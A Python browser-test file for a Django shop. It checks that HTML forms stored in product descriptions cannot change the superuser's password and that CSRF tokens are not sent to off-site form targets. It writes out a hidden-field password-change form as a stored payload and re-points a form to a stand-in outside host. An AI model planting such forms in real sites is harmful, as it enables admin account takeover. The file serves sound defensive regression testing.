"""A form hidden in a product description cannot act as the visitor
(issue 28, item 1), in Debian's Chromium. An editor who may only change
product copy stores a form that posts to the admin's password page; the
superuser opens the product page and presses its button. The description
shows no form, and shop.js gives a CSRF token only to forms our templates
mark that post to this site."""

import re
from urllib.parse import parse_qs

import pytest
from cartridge.shop.models import Product
from django.contrib.auth import get_user_model
from playwright.sync_api import expect

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

BOOK = "The Lighthouse Keeper's Almanac"
ADMIN_PASSWORD = "demo-admin"
NEW_PASSWORD = "Taken-over-by-a-description-42"
OFF_SITE = "http://elsewhere.example/collect"


def attack_form(user_id):
    return (
        f'<form method="post" action="/admin/auth/user/{user_id}/password/">'
        '<input type="hidden" name="csrfmiddlewaretoken" value="">'
        f'<input type="hidden" name="password1" value="{NEW_PASSWORD}">'
        f'<input type="hidden" name="password2" value="{NEW_PASSWORD}">'
        "<button>Read a free sample</button></form>"
    )


def admin_password_unchanged():
    return get_user_model().objects.get(username="admin").check_password(ADMIN_PASSWORD)


def watch_requests(page):
    """The token requests and the POSTs the page makes from now on."""
    seen = {"token": [], "post": []}
    page.on("request", lambda request: seen["token"].append(request.url) if "/csrf/" in request.url else None)
    page.on("request", lambda request: seen["post"].append(request.url) if request.method == "POST" else None)
    return seen


@pytest.fixture
def product_url(live_server, demo):
    return live_server.url + Product.objects.get(title=BOOK).get_absolute_url()


@pytest.fixture
def superuser_page(page, live_server, demo):
    page.goto(live_server.url + "/admin/")
    page.locator("#id_username").fill("admin")
    page.locator("#id_password").fill(ADMIN_PASSWORD)
    page.get_by_role("button", name=re.compile("Log in", re.I)).click()
    expect(page.locator("#user-tools")).to_contain_text("Log out")
    return page


def test_a_form_stored_in_a_description_is_not_shown_to_the_superuser(superuser_page, product_url):
    page = superuser_page
    admin = get_user_model().objects.get(username="admin")
    # Stored as it was before the filter changed: update() runs no cleaning.
    Product.objects.filter(title=BOOK).update(content="<p>Our best seller.</p>" + attack_form(admin.pk))
    page.goto(product_url)
    seen = watch_requests(page)

    description = page.locator(".product-description")
    expect(description).to_contain_text("Read a free sample")
    expect(description.locator("form, input, button")).to_have_count(0)
    description.get_by_text("Read a free sample").click()
    page.get_by_role("button", name="Add to cart").wait_for()  # still the product page

    assert seen == {"token": [], "post": []}
    assert admin_password_unchanged()


def test_a_form_the_shop_did_not_mark_gets_no_token(superuser_page, product_url):
    """The script's end, on its own: a form that reached the page anyway
    (a filter let it through) is sent as written, with its empty token, and
    Django refuses it."""
    page = superuser_page
    admin = get_user_model().objects.get(username="admin")
    page.goto(product_url)
    page.locator(".product-description").evaluate(
        "(el, form) => el.insertAdjacentHTML('beforeend', form)", attack_form(admin.pk)
    )
    seen = watch_requests(page)

    with page.expect_response(re.compile("/admin/auth/user/")) as sent:
        page.get_by_role("button", name="Read a free sample").click()

    assert sent.value.status == 403
    assert seen["token"] == []
    assert admin_password_unchanged()


@pytest.mark.parametrize("where", ["action", "formaction"])
def test_a_marked_form_sent_to_another_site_gets_no_token(page, product_url, where):
    """Even the shop's own Buy form, pointed elsewhere (by the form's action
    or the button's formaction), leaves without this visitor's token."""
    page.goto(product_url)
    stolen = []
    page.route(
        OFF_SITE,
        lambda route: (stolen.append(route.request.post_data), route.fulfill(status=200, body="elsewhere")),
    )
    target = "#add-cart" if where == "action" else "#add-cart [name=add_cart]"
    page.locator(target).evaluate("(el, [name, url]) => el.setAttribute(name, url)", [where, OFF_SITE])
    page.get_by_role("radio", name=re.compile("^eBook")).check()
    seen = watch_requests(page)

    page.get_by_role("button", name="Add to cart").click()
    expect(page).to_have_url(OFF_SITE)

    assert seen["token"] == []
    assert len(stolen) == 1
    assert parse_qs(stolen[0], keep_blank_values=True)["csrfmiddlewaretoken"] == [""]
